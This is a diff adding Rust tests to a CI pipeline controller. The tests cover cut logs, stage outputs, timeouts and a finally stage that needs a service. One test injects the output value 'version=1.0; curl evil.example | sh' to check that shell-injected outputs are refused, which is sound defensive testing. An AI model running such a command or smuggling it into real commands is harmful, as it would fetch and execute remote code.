@@ -401,6 +401,22 @@ fn tap_failures_in_every_attempt_fail_the_stage_naming_the_test() {
 }
 
 #[test]
+fn a_tap_verdict_from_a_cut_log_says_the_log_was_cut() {
+    let mut kola = stage("kola", &[]);
+    kola.results = Some(ResultsFormat::Tap);
+    let mut sim = Sim::new(spec(vec![kola]));
+    sim.step();
+    sim.succeed("kola");
+    // Tests 1 to 4 were in the part of the log the operator did not read.
+    sim.observed.logs.insert("run-kola-1".into(), "ok 5 - boot\n1..5\n".into());
+    sim.observed.logs_cut.insert("run-kola-1".into());
+    sim.step();
+    assert_eq!(sim.phase("kola"), StagePhase::Failed);
+    let message = sim.stage("kola").message.clone().unwrap_or_default();
+    assert!(message.contains("the log is longer than 4 MiB: TAP was read from its last 4 MiB"), "{message}");
+}
+
+#[test]
 fn fail_fast_cancels_running_siblings_and_pending_stages_but_runs_finally() {
     let mut report = stage("report", &[]);
     report.finally = true;
@@ -939,4 +955,98 @@ fn a_service_that_dies_fails_and_a_cancelled_run_tears_it_down() {
     sim.step();
     assert_eq!(sim.deleted_jobs, ["run-cluster-1", "run-e2e-1"]);
     assert_eq!(sim.status.phase, Some(RunPhase::Cancelled));
+}
+
+#[test]
+fn an_output_with_shell_characters_is_not_substituted_into_a_command() {
+    let mut producer = stage("sdk", &[]);
+    producer.outputs = vec!["version".into()];
+    let mut consumer = stage("test", &["sdk"]);
+    consumer.run.as_mut().unwrap().command =
+        vec!["sh".into(), "-c".into(), "run-tests $(stages.sdk.outputs.version)".into()];
+    let mut sim = Sim::new(spec(vec![producer.clone(), consumer.clone()]));
+    sim.step();
+    sim.finish("sdk", JobState::Succeeded, "version=1.0; curl evil.example | sh\n");
+    sim.step();
+    assert_eq!(sim.phase("test"), StagePhase::Failed);
+    assert!(sim.launches().is_empty(), "no Job for the consumer");
+    let message = sim.stage("test").message.clone().unwrap_or_default();
+    assert!(message.contains("$(stages.sdk.outputs.version) in run.command[2]"), "{message}");
+    assert!(message.contains("$GANTRY_OUTPUT_SDK_VERSION"), "{message}");
+
+    // Opting in substitutes the value as it is; plain values never need it.
+    consumer.allow_unsafe_outputs = true;
+    let mut sim = Sim::new(spec(vec![producer.clone(), consumer]));
+    sim.step();
+    sim.finish("sdk", JobState::Succeeded, "version=1.0; echo hi\n");
+    sim.step();
+    assert_eq!(sim.launches()[0].command[2], "run-tests 1.0; echo hi");
+    let mut plain = stage("test", &["sdk"]);
+    plain.run.as_mut().unwrap().args = vec!["$(stages.sdk.outputs.version)".into()];
+    let mut sim = Sim::new(spec(vec![producer, plain]));
+    sim.step();
+    sim.finish("sdk", JobState::Succeeded, "version=3145.0.0\n");
+    sim.step();
+    assert_eq!(sim.launches()[0].args, ["3145.0.0"]);
+}
+
+#[test]
+fn outputs_in_env_values_are_data_and_need_no_opt_in() {
+    let mut producer = stage("sdk", &[]);
+    producer.outputs = vec!["version".into()];
+    let mut consumer = stage("test", &["sdk"]);
+    consumer.run.as_mut().unwrap().env = vec![k8s_openapi::api::core::v1::EnvVar {
+        name: "V".into(),
+        value: Some("$(stages.sdk.outputs.version)".into()),
+        value_from: None,
+    }];
+    let mut sim = Sim::new(spec(vec![producer, consumer]));
+    sim.step();
+    sim.finish("sdk", JobState::Succeeded, "version=a b;c\n");
+    sim.step();
+    assert_eq!(env_of(&sim.launches()[0], "V").as_deref(), Some("a b;c"));
+}
+
+#[test]
+fn a_timeout_of_years_is_an_invalid_spec_not_an_overflow() {
+    for (field, mut s) in
+        [("spec.timeout", spec(vec![stage("a", &[])])), ("spec.defaults.timeout", spec(vec![stage("a", &[])]))]
+    {
+        if field == "spec.timeout" {
+            s.timeout = Some("100000000d".into());
+        } else {
+            s.defaults.timeout = Some("100000000d".into());
+        }
+        let mut sim = Sim::new(s);
+        sim.step();
+        assert_eq!(sim.status.phase, Some(RunPhase::Failed));
+        assert_eq!(sim.condition().1, "InvalidSpec");
+        let message = sim.status.message.clone().unwrap_or_default();
+        assert!(message.starts_with(&format!("{field}: \"100000000d\": longer than the limit of 30d")), "{message}");
+        assert!(sim.created_jobs.is_empty());
+    }
+}
+
+#[test]
+fn a_finally_stage_that_needs_a_service_runs_while_the_service_is_up() {
+    // Collecting a test cluster's logs after the tests, whatever happened.
+    let mut cluster = stage("cluster", &[]);
+    cluster.service = Some(crate::api::pipelinerun::ServiceStage { replicas: 1, readiness_probe: None });
+    let mut collect = stage("collect-logs", &["cluster"]);
+    collect.finally = true;
+    collect.run.as_mut().unwrap().args = vec!["$(stages.cluster.outputs.addresses)".into()];
+    let mut sim = Sim::new(spec(vec![cluster, stage("e2e", &["cluster"]), collect]));
+    sim.step();
+    make_ready(&mut sim, "cluster", &["10.0.0.1"]);
+    sim.step();
+    assert_eq!(sim.running(), ["cluster", "e2e"]);
+    sim.fail("e2e");
+    sim.step();
+    assert_eq!(sim.running(), ["cluster", "collect-logs"], "the service stays up for the finally stage");
+    assert_eq!(sim.launches()[0].args, ["10.0.0.1"]);
+    sim.succeed("collect-logs");
+    sim.step();
+    assert_eq!(sim.deleted_jobs, ["run-cluster-1"], "torn down after the finally stage");
+    assert_eq!(sim.phase("cluster"), StagePhase::Succeeded);
+    assert_eq!(sim.status.phase, Some(RunPhase::Failed), "e2e failed");
 }
